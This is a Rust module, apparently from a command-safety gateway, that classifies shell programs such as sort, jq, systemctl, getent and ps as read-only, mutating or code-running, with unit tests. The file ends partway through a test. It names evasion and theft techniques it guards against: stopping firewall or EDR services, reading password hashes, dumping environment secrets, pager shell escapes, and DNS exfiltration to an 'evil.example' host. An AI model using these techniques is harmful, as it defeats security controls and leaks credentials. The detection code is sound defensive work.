//! Programs read-only in every invocation their model allows, with the one-screen models (sort,
//! uniq, date, jq, helm, systemctl, …), the decoders, and the reads that print the environment
//! (`printenv`, `ps e`). Searching (grep, rg, fd) has its own room.

use recourse_policy::Reason;

use crate::args::{OptSpec, Parsed};

use super::model::{Call, Model, Program, Shape, always, escalate, kind, names, paths, tokens};
use super::search::selects_lines;

const RO: u32 = kind::READONLY;

/// The room's entries.
pub(crate) const PROGRAMS: &[Program] = &[
    Program {
        names: &["cat", "head", "tail", "tac"],
        kind: RO | kind::CONTENT,
        selects: Some(selects_lines),
        ..Program::NONE
    },
    Program::of(
        &[
            "cut", "nl", "column", "fold", "fmt", "expand", "unexpand", "paste", "join", "comm",
            "od", "hexdump", "strings", "cmp",
        ],
        RO | kind::CONTENT,
    ),
    Program::of(
        &[
            "df",
            "sleep",
            "free",
            "locale",
            "lsblk",
            "lscpu",
            "cal",
            "numfmt",
            "w",
            "who",
            "vmstat",
            "getconf",
            "lsb_release",
            "pgrep",
            "pidof",
            "lsof",
            "iostat",
            "mpstat",
            "last",
            "lastlog",
            "users",
            "yes",
            "findmnt",
            "lsmod",
            "lspci",
            "lsusb",
            "sw_vers",
            "apropos",
            "whatis",
        ],
        RO,
    ),
    // Viewers and counters of the project's files.
    Program {
        names: &["bat", "batcat"],
        kind: RO | kind::CONTENT,
        model: Some(bat),
        ..Program::NONE
    },
    Program::of(&["eza", "exa", "lsd"], RO | kind::PRINTS_NAMES),
    Program::of(&["tokei", "cloc", "scc"], RO),
    Program {
        // A diff viewer reading its input; it pages only to a terminal.
        names: &["delta"],
        kind: RO,
        model: Some(bat),
        ..Program::NONE
    },
    Program {
        names: &["xmllint"],
        kind: RO | kind::CONTENT,
        model: Some(xmllint),
        ..Program::NONE
    },
    Program {
        names: &["hostnamectl", "timedatectl", "localectl"],
        kind: RO | kind::MUTATING,
        model: Some(ctl_status),
        ..Program::NONE
    },
    Program {
        names: &["gpg", "gpg2"],
        kind: RO | kind::MUTATING | kind::CODE_CAPABLE,
        model: Some(gpg),
        ..Program::NONE
    },
    // Binaries and archives looked at, not run or extracted.
    Program {
        names: &["nm", "objdump", "readelf", "size", "otool", "zipinfo"],
        kind: RO | kind::CONTENT,
        model: Some(binutils),
        ..Program::NONE
    },
    Program {
        names: &["bzcat", "xzcat", "zstdcat", "lz4cat"],
        kind: RO | kind::CONTENT,
        decodes: Some(always),
        ..Program::NONE
    },
    Program {
        names: &["locate", "plocate", "mlocate"],
        kind: RO | kind::PRINTS_NAMES,
        output: Some(paths),
        ..Program::NONE
    },
    Program {
        names: &["shuf"],
        kind: RO | kind::CONTENT,
        options: SHUF_OPTIONS,
        model: Some(shuf),
        writes: Some(shuf_output),
        ..Program::NONE
    },
    Program {
        names: &["dmesg"],
        kind: RO | kind::MUTATING,
        model: Some(dmesg),
        ..Program::NONE
    },
    Program {
        names: &["sysctl"],
        kind: RO | kind::MUTATING,
        model: Some(sysctl),
        ..Program::NONE
    },
    Program {
        names: &["ifconfig"],
        kind: RO | kind::MUTATING,
        model: Some(ifconfig),
        ..Program::NONE
    },
    Program {
        names: &["which", "whereis", "dirname"],
        kind: RO,
        output: Some(paths),
        ..Program::NONE
    },
    Program {
        names: &["top"],
        kind: RO | kind::PAGER,
        model: Some(top),
        ..Program::NONE
    },
    Program {
        names: &[
            "whoami", "uname", "nproc", "arch", "tty", "groups", "uptime", "factor",
        ],
        kind: RO,
        output: Some(tokens),
        ..Program::NONE
    },
    // They print counts or digests, and the names of the files they are given.
    Program {
        names: &[
            "wc",
            "md5sum",
            "sha1sum",
            "sha256sum",
            "sha512sum",
            "cksum",
            "b2sum",
            "shasum",
        ],
        kind: RO,
        output: Some(counted),
        ..Program::NONE
    },
    // Their output comes from their arguments: it starts with `-` when those say so
    // (`basename -- -delete`, `seq -5 -1`, `expr substr x-delete 2 7`).
    Program {
        names: &["seq", "basename"],
        kind: RO,
        output: Some(from_arguments),
        ..Program::NONE
    },
    // Calculators: `bc` has no way to run commands (unlike `dc`'s `!`), but prints strings.
    Program {
        names: &["expr", "bc"],
        kind: RO,
        output: Some(from_arguments),
        ..Program::NONE
    },
    Program {
        names: &["id"],
        kind: RO,
        output: Some(id_output),
        ..Program::NONE
    },
    Program {
        names: &["ls"],
        kind: RO | kind::PRINTS_NAMES,
        output: Some(names),
        ..Program::NONE
    },
    Program {
        names: &["du"],
        kind: RO | kind::PRINTS_NAMES,
        // A danger, not a model: no other option of du matters, so globs and xargs input
        // given to it stay read-only.
        dangers: Some(du),
        ..Program::NONE
    },
    Program::of(&["stat"], RO | kind::PRINTS_NAMES),
    Program {
        names: &["realpath", "readlink"],
        kind: RO | kind::PRINTS_NAMES,
        output: Some(paths),
        ..Program::NONE
    },
    Program::of(&["echo"], RO | kind::TEXT_ONLY | kind::PRINTS_NAMES),
    Program {
        names: &["printf"],
        kind: RO | kind::TEXT_ONLY | kind::PRINTS_NAMES,
        model: Some(printf),
        decodes: Some(printf_escapes),
        ..Program::NONE
    },
    Program {
        names: &["sort"],
        kind: RO | kind::CONTENT,
        model: Some(sort),
        writes: Some(sort_output),
        selects: Some(selects_lines),
        ..Program::NONE
    },
    Program {
        names: &["uniq"],
        kind: RO | kind::CONTENT | kind::SECOND_OPERAND_WRITTEN,
        options: OptSpec::new("fsw", &[]),
        model: Some(second_operand_written),
        writes: Some(second_operand),
        selects: Some(selects_lines),
        ..Program::NONE
    },
    Program {
        names: &["xxd"],
        kind: RO | kind::CONTENT | kind::SECOND_OPERAND_WRITTEN,
        options: OptSpec::new("lcsgon", &[]),
        model: Some(second_operand_written),
        writes: Some(second_operand),
        decodes: Some(xxd_reverts),
        ..Program::NONE
    },
    Program {
        names: &["tree"],
        kind: RO | kind::PRINTS_NAMES,
        options: OptSpec::new("LPIoHT", &["filelimit", "timefmt", "charset", "sort"]),
        model: Some(tree),
        writes: Some(tree_output),
        ..Program::NONE
    },
    Program {
        names: &["file"],
        kind: RO,
        model: Some(file),
        ..Program::NONE
    },
    Program {
        names: &["date"],
        kind: RO | kind::CONTENT,
        model: Some(date),
        output: Some(date_output),
        ..Program::NONE
    },
    Program {
        names: &["hostname"],
        kind: RO,
        model: Some(hostname),
        output: Some(tokens),
        ..Program::NONE
    },
    Program {
        names: &["jq", "yq"],
        kind: RO | kind::PATTERN_FIRST | kind::CONTENT,
        model: Some(jq),
        dumps_env: Some(jq_env),
        ..Program::NONE
    },
    Program {
        names: &["gojq", "jaq"],
        kind: kind::PATTERN_FIRST | kind::CONTENT,
        dumps_env: Some(jq_env),
        ..Program::NONE
    },
    Program {
        names: &["printenv"],
        kind: RO,
        dumps_env: Some(printenv_dumps),
        ..Program::NONE
    },
    Program {
        names: &["ps"],
        kind: RO,
        dumps_env: Some(ps_env),
        ..Program::NONE
    },
    Program {
        names: &["getent"],
        kind: RO | kind::SENDS,
        offline: Some(getent_offline),
        model: Some(getent_model),
        dangers: Some(getent),
        ..Program::NONE
    },
    Program {
        names: &["ss", "netstat"],
        kind: RO,
        model: Some(sockets),
        ..Program::NONE
    },
    Program {
        names: &["ip"],
        kind: RO | kind::MUTATING,
        model: Some(ip),
        ..Program::NONE
    },
    Program {
        names: &["base64"],
        kind: RO | kind::CONTENT,
        options: OptSpec::new("iow", &["input", "output", "wrap"]),
        model: Some(base64),
        writes: Some(base64_output),
        decodes: Some(base64_decodes),
        ..Program::NONE
    },
    Program {
        names: &["base32", "basenc"],
        kind: kind::CONTENT,
        decodes: Some(base64_decodes),
        ..Program::NONE
    },
    Program {
        // Text transformers: harmless on their own, de-obfuscation when their output runs.
        names: &["rev", "tr"],
        kind: RO | kind::CONTENT,
        decodes: Some(always),
        ..Program::NONE
    },
    Program {
        names: &["zcat"],
        kind: RO | kind::CONTENT,
        decodes: Some(always),
        ..Program::NONE
    },
    Program {
        names: &["helm"],
        kind: RO | kind::MUTATING | kind::CODE_CAPABLE,
        options: OptSpec::new("n", &["namespace", "kube-context", "post-renderer"]),
        model: Some(helm),
        ..Program::NONE
    },
    Program {
        names: &["journalctl"],
        kind: RO | kind::MUTATING | kind::CODE_CAPABLE,
        options: OptSpec::new(
            "uMDnopSUtIgbk",
            &[
                "unit",
                "user-unit",
                "directory",
                "file",
                "lines",
                "output",
                "since",
                "until",
            ],
        ),
        model: Some(journalctl),
        ..Program::NONE
    },
    Program {
        names: &["systemctl"],
        kind: RO | kind::MUTATING | kind::CODE_CAPABLE,
        options: OptSpec::new("HMpPt", &["host", "machine", "property", "type", "state"]),
        model: Some(systemctl),
        dangers: Some(systemctl_dangers),
        ..Program::NONE
    },
];

fn generic<'a>(call: &Call<'a>) -> Parsed<'a> {
    crate::args::parse(call.args, &OptSpec::NONE)
}

fn sort(call: &Call<'_>) -> Model {
    let p = generic(call);
    if p.has_short('o') || p.has_long("output") {
        Model::Mutating("sort -o writes a file")
    } else if p.has_long("compress-program") {
        Model::RunsCode("sort --compress-program runs a program".into())
    } else {
        Model::ReadOnly
    }
}

/// Read-only: `-v NAME` only assigns a variable (the walker checks the name). The model is
/// there so that an unknown word, which may become `-v`, counts.
fn printf(_: &Call<'_>) -> Model {
    Model::ReadOnly
}

fn sort_output<'a>(call: &Call<'a>) -> Vec<&'a str> {
    let p = crate::args::parse(call.args, &OptSpec::new("ko", &["key", "output"]));
    p.values_of(Some('o'), Some("output"))
}

fn second_operand<'a>(call: &Call<'a>) -> Vec<&'a str> {
    call.operands().skip(1).take(1).collect()
}

fn second_operand_written(call: &Call<'_>) -> Model {
    if call.opts.operands.len() >= 2 {
        Model::Mutating("with two file operands, writes the second")
    } else {
        Model::ReadOnly
    }
}

fn tree(call: &Call<'_>) -> Model {
    let p = generic(call);
    // `--fromfile FILE` prints FILE's lines as a tree; `--hintro`/`--houtro` copy a file in.
    if ["fromfile", "fromtabfile", "hintro", "houtro"]
        .iter()
        .any(|l| p.has_long(l))
    {
        return Model::RunsCode("tree --fromfile/--hintro prints the content of a file".into());
    }
    if p.has_short('o') {
        Model::Mutating("tree -o writes a file")
    } else if p.has_short('R') {
        Model::Mutating("tree -R writes an index file in every directory")
    } else {
        Model::ReadOnly
    }
}

fn tree_output<'a>(call: &Call<'a>) -> Vec<&'a str> {
    call.opts.values_of(Some('o'), None)
}

/// Units whose stopping turns off a security control.
const SECURITY_UNITS: &[&str] = &[
    "firewalld",
    "ufw",
    "apparmor",
    "auditd",
    "iptables",
    "nftables",
    "fail2ban",
    "crowdsec",
    "falcon-sensor",
    "osqueryd",
    "wazuh-agent",
    "clamav-daemon",
    "sshguard",
];

/// `systemctl reboot`, `systemctl stop firewalld`.
fn systemctl_dangers(call: &Call<'_>, out: &mut Vec<Reason>) {
    let mut ops = call.operands();
    let verb = ops.next().unwrap_or_default();
    if matches!(
        verb,
        "reboot" | "poweroff" | "halt" | "kexec" | "rescue" | "emergency"
    ) {
        crate::programs::model::block(
            out,
            "shell.builtin.shutdown",
            format!("systemctl {verb} shuts the machine down or restarts it"),
        );
    }
    if matches!(verb, "stop" | "disable" | "mask" | "kill")
        && ops.any(|u| SECURITY_UNITS.contains(&u.trim_end_matches(".service")))
    {
        crate::programs::model::block(
            out,
            "shell.builtin.security_off",
            format!("systemctl {verb} turns off a security service"),
        );
    }
}

/// `id -u`, `id -gn`: numbers and names; plain `id` prints several words with parentheses.
fn id_output(call: &Call<'_>) -> Shape {
    let p = &call.opts;
    if ['u', 'g', 'G'].iter().any(|c| p.has_short(*c)) {
        Shape::Token
    } else {
        Shape::Content
    }
}

const SHUF_OPTIONS: OptSpec = OptSpec::new(
    "nio",
    &["head-count", "input-range", "output", "random-source"],
);

/// `wc -l`, `sha256sum`: numbers and digests from standard input; with file operands, the
/// files' names too.
fn counted(call: &Call<'_>) -> Shape {
    if call.opts.operands.is_empty() {
        Shape::Token
    } else {
        Shape::Names
    }
}

/// Words made from the arguments: plain tokens only when no argument could make one start
/// with `-` or hold a name (`seq 1 10`, `basename src/x.rs`, `expr 1 + 2`).
fn from_arguments(call: &Call<'_>) -> Shape {
    let plain = |w: &crate::syntax::Word| {
        let t = w.text.as_str();
        let last = t
            .trim_end_matches('/')
            .rsplit('/')
            .next()
            .unwrap_or_default();
        w.is_static()
            && !last.starts_with('-')
            && match call.prog {
                "expr" => t
                    .chars()
                    .all(|c| c.is_ascii_digit() || "+-*/%<>=!&|()".contains(c)),
                "seq" => t.chars().all(|c| c.is_ascii_digit() || c == '.'),
                _ => true,
            }
    };
    if call.prog != "bc" && call.args.iter().all(plain) {
        Shape::Token
    } else {
        Shape::Content
    }
}

/// `du --files0-from=FILE` reads names from a file and prints the ones it cannot find, which
/// is the file's content.
fn du(call: &Call<'_>, out: &mut Vec<Reason>) {
    if call.opts.longs.iter().any(|(l, _)| l.starts_with("files0")) {
        escalate(
            out,
            "shell.builtin.credential_read",
            "du --files0-from prints a file's content in its errors".into(),
        );
    }
}

/// `bat --pager CMD`, `delta --pager CMD` run a program; otherwise they print.
fn bat(call: &Call<'_>) -> Model {
    if call.opts.longs.iter().any(|(l, _)| l.starts_with("pager")) {
        Model::RunsCode(format!("{} --pager runs a program", call.prog))
    } else {
        Model::ReadOnly
    }
}

/// `xmllint --output FILE` writes; `--shell` takes commands.
fn xmllint(call: &Call<'_>) -> Model {
    let p = &call.opts;
    // XInclude, DTDs and schemas pull in files (or URLs) the document names.
    if [
        "xinclude",
        "loaddtd",
        "dtdvalid",
        "dtdattr",
        "relaxng",
        "schema",
        "schematron",
        "path",
    ]
    .iter()
    .any(|l| p.has_long(l))
    {
        return Model::RunsCode("xmllint reads files or URLs the document names".into());
    }
    if p.has_long("output") || p.has_short('o') || p.has_long("shell") {
        Model::Mutating("xmllint --output writes a file")
    } else {
        Model::ReadOnly
    }
}

/// `hostnamectl`, `timedatectl status`: show; `set-*` changes the system.
fn ctl_status(call: &Call<'_>) -> Model {
    match call.operands().next() {
        None | Some("status" | "show" | "list-timezones" | "list-locales") => Model::ReadOnly,
        _ => Model::Mutating("changes the host's name, clock or locale"),
    }
}

/// `gpg --list-keys`, `--fingerprint`: list the keyring; everything else signs, decrypts,
/// imports or runs helpers.
fn gpg(call: &Call<'_>) -> Model {
    let lists = call.args.iter().all(|w| {
        matches!(
            w.text.as_str(),
            "--list-keys"
                | "-k"
                | "--list-public-keys"
                | "--fingerprint"
                | "--list-sigs"
                | "--with-colons"
                | "--keyid-format"
                | "long"
                | "short"
                | "--version"
        ) || !w.text.starts_with('-') && !w.text.contains('/')
    }) && call.args.iter().any(|w| w.text.starts_with('-'));
    if lists {
        Model::ReadOnly
    } else {
        Model::RunsCode("gpg signs, decrypts, imports or runs helpers".into())
    }
}

/// `nm --plugin X.so` loads a library; `@FILE` reads more options from a file.
fn binutils(call: &Call<'_>) -> Model {
    let loads = call.args.iter().any(|w| w.text.starts_with('@'))
        || call
            .opts
            .longs
            .iter()
            .any(|(l, _)| l.len() >= 2 && crate::args::abbreviates(l, "plugin"));
    if loads {
        Model::RunsCode("--plugin loads a library; @FILE reads options from a file".into())
    } else {
        Model::ReadOnly
    }
}

/// `shuf -o FILE` writes a file.
fn shuf(call: &Call<'_>) -> Model {
    if shuf_output(call).is_empty() {
        Model::ReadOnly
    } else {
        Model::Mutating("shuf -o writes a file")
    }
}

fn shuf_output<'a>(call: &Call<'a>) -> Vec<&'a str> {
    call.opts.values_of(Some('o'), Some("output"))
}

/// `dmesg` reads the kernel's ring buffer; `-c`/`-C` clear it, `-n`/`-D`/`-E` change what
/// the console logs.
fn dmesg(call: &Call<'_>) -> Model {
    let p = generic(call);
    let changes = ['c', 'C', 'n', 'D', 'E'].iter().any(|c| p.has_short(*c))
        || [
            "clear",
            "read-clear",
            "console-level",
            "console-off",
            "console-on",
        ]
        .iter()
        .any(|l| p.has_long(l));
    if changes {
        Model::Mutating("dmesg clears the kernel log or changes the console level")
    } else {
        Model::ReadOnly
    }
}

/// `sysctl -n NAME`, `sysctl -a`: reads; `-w`, `NAME=VALUE`, `-p FILE`, `--system` write.
fn sysctl(call: &Call<'_>) -> Model {
    let p = generic(call);
    let writes = p.has_short('w')
        || p.has_short('p')
        || p.has_short('f')
        || p.has_long("write")
        || p.has_long("load")
        || p.has_long("system")
        || call.operands().any(|o| o.contains('='));
    if writes {
        Model::Mutating("sysctl sets kernel parameters")
    } else {
        Model::ReadOnly
    }
}

/// `ifconfig`, `ifconfig -a`, `ifconfig eth0`: show; anything more configures.
fn ifconfig(call: &Call<'_>) -> Model {
    let shows = call
        .args
        .iter()
        .all(|w| matches!(w.text.as_str(), "-a" | "-s" | "-l"))
        || matches!(call.args, [one] if !one.text.starts_with('-'));
    if shows {
        Model::ReadOnly
    } else {
        Model::Mutating("ifconfig configures network interfaces")
    }
}

/// `ss -K` kills the sockets it lists.
fn sockets(call: &Call<'_>) -> Model {
    if call.prog == "ss" && (call.opts.has_short('K') || call.opts.has_long("kill")) {
        Model::Mutating("ss -K kills sockets")
    } else {
        Model::ReadOnly
    }
}

/// `ip addr`, `ip route show`, `ip -j link`: reads; `ip link set`, `ip netns exec`: not.
fn ip(call: &Call<'_>) -> Model {
    if call
        .args
        .iter()
        .any(|w| matches!(w.text.as_str(), "-b" | "-batch" | "--batch" | "-force"))
    {
        return Model::RunsCode("ip -batch runs ip commands from a file".into());
    }
    let words: Vec<&str> = call.operands().collect();
    match words.as_slice() {
        [_] | [] => Model::ReadOnly,
        [_, verb, ..] if matches!(*verb, "show" | "list" | "ls" | "lst" | "get") => Model::ReadOnly,
        [object, ..] if object.starts_with("netns") => {
            Model::RunsCode("ip netns can run commands in another namespace".into())
        }
        _ => Model::Mutating("ip changes network configuration"),
    }
}

/// `getent hosts NAME` asks DNS: a name computed at run time (`$(… | base64).evil.example`)
/// carries data out. Literal names are lookups like any other.
/// `getent hosts "$(… | base64).e.example"`: the name is a DNS query that carries data.
fn getent_model(call: &Call<'_>) -> Model {
    if getent_offline(call) {
        Model::ReadOnly
    } else {
        Model::RunsCode("getent looks up a name built at run time (DNS carries it out)".into())
    }
}

fn getent_offline(call: &Call<'_>) -> bool {
    let mut ops = call.opts.operands.iter();
    let hosts = ops
        .next()
        .is_some_and(|db| db.text.starts_with("hosts") || db.text.starts_with("ahosts"));
    !(hosts && ops.any(|w| !w.is_static()))
}

/// `getent shadow` prints password hashes.
fn getent(call: &Call<'_>, out: &mut Vec<Reason>) {
    if call
        .operands()
        .next()
        .is_some_and(|db| matches!(db, "shadow" | "gshadow"))
    {
        escalate(
            out,
            "shell.builtin.credential_read",
            "getent shadow prints password hashes".into(),
        );
    }
}

/// BSD `base64 -o FILE` writes its output to a file.
fn base64(call: &Call<'_>) -> Model {
    if base64_output(call).is_empty() {
        Model::ReadOnly
    } else {
        Model::Mutating("base64 -o writes a file")
    }
}

fn base64_output<'a>(call: &Call<'a>) -> Vec<&'a str> {
    call.opts.values_of(Some('o'), Some("output"))
}

fn file(call: &Call<'_>) -> Model {
    let p = generic(call);
    if p.has_short('C') || p.has_long("compile") {
        Model::Mutating("file -C writes a compiled magic file")
    } else {
        Model::ReadOnly
    }
}

/// `date +%s`, `date +%Y-%m-%d`: digits and separators. A format with literal letters or
/// blanks (`date +-delete`, `+%Y%n-o`) prints words of its own choosing.
fn date_output(call: &Call<'_>) -> Shape {
    let p = crate::args::parse(call.args, &DATE_OPTIONS);
    let plain = p.operands.iter().map(|w| w.text.as_str()).all(|f| {
        let Some(fmt) = f.strip_prefix('+') else {
            return true;
        };
        let b = fmt.as_bytes();
        let mut i = 0;
        let mut ok = !fmt.starts_with('-');
        while ok && i < b.len() {
            if b[i] == b'%' {
                ok = !matches!(b.get(i + 1), Some(b'n' | b't'));
                i += 2;
            } else {
                ok = !b[i].is_ascii_alphabetic() && !b[i].is_ascii_whitespace();
                i += 1;
            }
        }
        ok
    });
    if plain { Shape::Token } else { Shape::Content }
}

/// date's options that take a value (`-d STRING`, `-r FILE`).
const DATE_OPTIONS: OptSpec = OptSpec::new("dfrs", &["date", "file", "reference", "set"]);

fn date(call: &Call<'_>) -> Model {
    let p = crate::args::parse(call.args, &DATE_OPTIONS);
    // `date 010100002020`: an operand not starting with `+` sets the clock (MMDDhhmm…).
    if p.has_short('s') || p.has_long("set") || p.operands.iter().any(|o| !o.text.starts_with('+'))
    {
        Model::Mutating("date -s sets the clock")
    } else {
        Model::ReadOnly
    }
}

fn hostname(call: &Call<'_>) -> Model {
    let p = generic(call);
    if call.args.iter().any(|w| !w.text.starts_with('-')) || p.has_short('F') || p.has_long("file")
    {
        Model::Mutating("hostname NAME sets the host name")
    } else {
        Model::ReadOnly
    }
}

fn jq(call: &Call<'_>) -> Model {
    let p = &call.opts;
    // `import "../../root/.docker/config" as $c`: a filter that reads other files.
    if call
        .args
        .iter()
        .any(|w| w.text.contains("import ") || w.text.contains("include "))
    {
        return Model::RunsCode("the jq filter imports files".into());
    }
    if p.has_short('i') || p.has_long("inplace") || p.has_long("in-place") {
        return Model::Mutating("edits files in place");
    }
    // `jq -f FILE`, `-L DIR` (modules): a filter the gateway cannot see, which may read the
    // environment or, failing to parse, print the file it came from.
    if p.has_short('f') || p.has_long("from-file") || p.has_short('L') {
        return Model::RunsCode("jq -f/-L loads a filter from a file".into());
    }
    Model::ReadOnly
}

fn helm(call: &Call<'_>) -> Model {
    if call.opts.has_long("post-renderer") {
        return Model::RunsCode("helm --post-renderer runs a program".into());
    }
    match call.opts.operands.first().map(|w| w.text.as_str()) {
        Some(
            "list" | "ls" | "status" | "history" | "get" | "show" | "search" | "version"
            | "template" | "lint",
        ) => Model::ReadOnly,
        _ => Model::Mutating("not a read-only helm command"),
    }
}

/// Reading the journal is read-only once it is not paged; a few options rotate, vacuum or
/// flush it.
fn journalctl(call: &Call<'_>) -> Model {
    let p = &call.opts;
    let changes = [
        "rotate",
        "flush",
        "sync",
        "relinquish-var",
        "smart-relinquish-var",
        "setup-keys",
        "update-catalog",
        "vacuum-size",
        "vacuum-time",
        "vacuum-files",
    ];
    if changes.iter().any(|o| p.has_long(o)) {
        Model::Mutating("journalctl rotates, vacuums or flushes the journal")
    } else if p.has_long("no-pager") || p.has_short('f') || p.has_long("follow") {
        Model::ReadOnly
    } else {
        Model::RunsCode(
            "journalctl pages its output through less, which has shell escapes (use --no-pager)"
                .into(),
        )
    }
}

fn systemctl(call: &Call<'_>) -> Model {
    if call.opts.has_short('H') || call.opts.has_long("host") {
        return Model::RunsCode("systemctl -H runs ssh to reach another host".into());
    }
    match call.opts.operands.first().map(|w| w.text.as_str()) {
        Some("is-active" | "is-enabled" | "is-failed") => Model::ReadOnly,
        // These page their output through `less` (shell escapes) unless told not to.
        None
        | Some("status" | "show" | "list-units" | "list-unit-files" | "list-timers" | "cat") => {
            if call.args.iter().any(|w| w.text == "--no-pager") {
                Model::ReadOnly
            } else {
                Model::RunsCode("systemctl pages its output through less, which has shell escapes (use --no-pager)".into())
            }
        }
        Some("edit") => Model::RunsCode("systemctl edit runs an editor".into()),
        Some(_) => Model::Mutating("changes services"),
    }
}

fn jq_env(call: &Call<'_>) -> bool {
    call.args.iter().any(|w| mentions_env_builtin(&w.text))
}

/// `printenv` prints the whole environment; `printenv NAME` one variable, a credential when
/// its name says so.
fn printenv_dumps(call: &Call<'_>) -> bool {
    call.opts.operands.is_empty() || call.operands().any(crate::credentials::is_secret_name)
}

/// `top -b` prints and exits; interactive `top` takes commands (`k`ill, renice, and `W`
/// writes its configuration).
fn top(call: &Call<'_>) -> Model {
    if call.opts.has_short('b') {
        Model::ReadOnly
    } else {
        Model::RunsCode("interactive top takes commands that kill processes and write files".into())
    }
}

/// BSD-style `ps e` (no dash) prints every process's environment. The values of `-o`, `-p`,
/// `--sort`, … (`-eo pid,etime`) are format lists and ids, not options.
fn ps_env(call: &Call<'_>) -> bool {
    const VALUED: &str = "oOpqsuUgGtC";
    let mut value_next = false;
    call.args.iter().any(|w| {
        let t = w.text.as_str();
        // `-o pid,environ`, `--format=environ`: the environment as a column.
        if t.contains("environ") {
            return true;
        }
        if std::mem::take(&mut value_next) {
            return false;
        }
        // A word of unknown value may be `e`.
        if !w.is_static() {
            return true;
        }
        if let Some(long) = t.strip_prefix("--") {
            value_next = !long.contains('=')
                && matches!(
                    long,
                    "sort"
                        | "format"
                        | "pid"
                        | "ppid"
                        | "user"
                        | "group"
                        | "tty"
                        | "cols"
                        | "columns"
                        | "rows"
                        | "lines"
                        | "width"
                        | "sid"
                        | "quick-pid"
                );
            return false;
        }
        if let Some(short) = t.strip_prefix('-') {
            // `-eo`: the last option takes the next word when nothing is glued to it.
            value_next = short
                .char_indices()
                .find(|(_, c)| VALUED.contains(*c))
                .is_some_and(|(k, _)| k + 1 == short.len());
            return false;
        }
        // A BSD option word: letters only (`auxe`); its `o`/`O`/`p`/`t`/`U` take the next word.
        let bsd = !t.is_empty() && t.bytes().all(|b| b.is_ascii_alphabetic());
        value_next = bsd && t.ends_with(['o', 'O', 'p', 't', 'U']);
        bsd && t.contains('e')
    })
}

/// `printf '\x72\155'`: hex, octal and unicode escapes hide what the text says.
fn printf_escapes(call: &Call<'_>) -> bool {
    call.args
        .first()
        .is_some_and(|f| crate::fixed::decode_escapes(&f.text, crate::fixed::Escapes::Printf).1)
}

fn base64_decodes(call: &Call<'_>) -> bool {
    let p = generic(call);
    p.has_short('d') || p.has_short('D') || p.has_long("decode")
}

fn xxd_reverts(call: &Call<'_>) -> bool {
    let p = generic(call);
    p.has_short('r') || p.has_long("revert")
}

/// Whether a jq/yq filter uses the `env`/`$ENV`/`strenv` builtins (field accesses like `.env`
/// do not count).
fn mentions_env_builtin(filter: &str) -> bool {
    if filter.contains("$ENV") || filter.contains("strenv(") {
        return true;
    }
    let b = filter.as_bytes();
    let word = |c: u8| c.is_ascii_alphanumeric() || c == b'_';
    filter.match_indices("env").any(|(i, _)| {
        let before = i.checked_sub(1).and_then(|j| b.get(j)).copied();
        let after = b.get(i + 3).copied();
        before.is_none_or(|c| !word(c) && c != b'.' && c != b'$') && after.is_none_or(|c| !word(c))
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::syntax::Word;

    fn model_of(prog: &str, f: fn(&Call<'_>) -> Model, spec: OptSpec, cmd: &str) -> Model {
        let words: Vec<Word> = cmd.split_whitespace().map(Word::literal).collect();
        f(&Call::new(prog, &words, &spec))
    }

    #[test]
    fn journal_reads_unless_paged_or_vacuumed() {
        let spec = OptSpec::new("un", &["unit", "lines"]);
        assert_eq!(
            model_of("journalctl", journalctl, spec, "-u x --no-pager -n 5"),
            Model::ReadOnly
        );
        assert_eq!(
            model_of("journalctl", journalctl, spec, "-f"),
            Model::ReadOnly
        );
        assert!(matches!(
            model_of("journalctl", journalctl, spec, "-u x"),
            Model::RunsCode(_)
        ));
        assert!(matches!(
            model_of(
                "journalctl",
                journalctl,
                spec,
                "--vacuum-time=1d --no-pager"
            ),
            Model::Mutating(_)
        ));
    }

    #[test]
    fn system_listings_read_but_do_not_set() {
        let none = OptSpec::NONE;
        for (prog, f, cmd) in [
            ("dmesg", dmesg as fn(&Call<'_>) -> Model, "-T"),
            ("sysctl", sysctl, "-n hw.ncpu"),
            ("sysctl", sysctl, "-a"),
            ("ifconfig", ifconfig, "-a"),
            ("ifconfig", ifconfig, "eth0"),
        ] {
            assert_eq!(
                model_of(prog, f, none, cmd),
                Model::ReadOnly,
                "{prog} {cmd}"
            );
        }
        assert_eq!(
            model_of("shuf", shuf, SHUF_OPTIONS, "-n 5 words.txt"),
            Model::ReadOnly
        );
        assert!(matches!(
            model_of("shuf", shuf, SHUF_OPTIONS, "-o out in"),
            Model::Mutating(_)
        ));
        for (prog, f, cmd) in [
            ("dmesg", dmesg as fn(&Call<'_>) -> Model, "-c"),
            ("dmesg", dmesg, "--clear"),
            ("sysctl", sysctl, "-w net.ipv4.ip_forward=1"),
            ("sysctl", sysctl, "kernel.x=1"),
            ("sysctl", sysctl, "-p /etc/sysctl.conf"),
            ("ifconfig", ifconfig, "eth0 down"),
        ] {
            assert!(
                matches!(model_of(prog, f, none, cmd), Model::Mutating(_)),
                "{prog} {cmd}"
            );
        }
    }

    #[test]
    fn ps_prints_the_environment_only_with_bsd_e() {
        let ps = |cmd: &str| {
            let words: Vec<Word> = cmd.split_whitespace().map(Word::literal).collect();
            ps_env(&Call::new("ps", &words, &OptSpec::NONE))
        };
        for env in [
            "e",
            "auxe",
            "axeww",
            "-o pid e",
            "--sort=pid e",
            "-eo pid,etime e",
        ] {
            assert!(ps(env), "{env}");
        }
        for no in [
            "aux",
            "-ef",
            "-eo pid,user,etime",
            "-o pid,comm,%mem --sort -%mem",
            "axo user,pid,etime",
            "-p 1 -o etime=",
            "-u www-data",
            "1234",
        ] {
            assert!(!ps(no), "{no}");
        }
    }

    #[test]
    fn one_screen_models() {
        let none = OptSpec::NONE;
        assert_eq!(model_of("sort", sort, none, "-rn x"), Model::ReadOnly);
        assert!(matches!(
            model_of("sort", sort, none, "-o out in"),
            Model::Mutating(_)
        ));
        assert!(matches!(
            model_of("sort", sort, none, "--compress-prog=sh in"),
            Model::RunsCode(_)
        ));
        let uniq = OptSpec::new("fsw", &[]);
        assert_eq!(
            model_of("uniq", second_operand_written, uniq, "-c in"),
            Model::ReadOnly
        );
        assert!(matches!(
            model_of("uniq", second_operand_written, uniq, "in out"),
            Model::Mutating(_)
        ));
        assert!(matches!(
            model_of("date", date, none, "-s 2020"),
            Model::Mutating(_)
        ));
        assert!(matches!(
            model_of("hostname", hostname, none, "evil"),
            Model::Mutating(_)
        ));
        assert_eq!(model_of("helm", helm, none, "list -A"), Model::ReadOnly);
        assert!(matches!(
            model_of("systemctl", systemctl, none, "status x"),
            Model::RunsCode(_)
        ));
    }

    #[test]
    fn env_builtins_in_filters() {
        for f in ["env", "$ENV.HOME", "strenv(X)", "env | keys"] {
